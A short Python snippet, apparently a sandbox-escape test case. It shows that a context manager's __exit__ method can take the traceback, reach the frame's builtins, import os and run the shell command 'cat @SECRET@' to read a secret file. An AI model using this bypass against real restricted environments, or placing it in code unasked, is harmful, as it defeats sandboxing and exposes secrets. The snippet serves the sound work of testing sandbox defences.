# __exit__ receives the traceback without any except clause.
# effect: run
class Leave:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        trace.tb_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
        return True
with Leave():
    raise ValueError
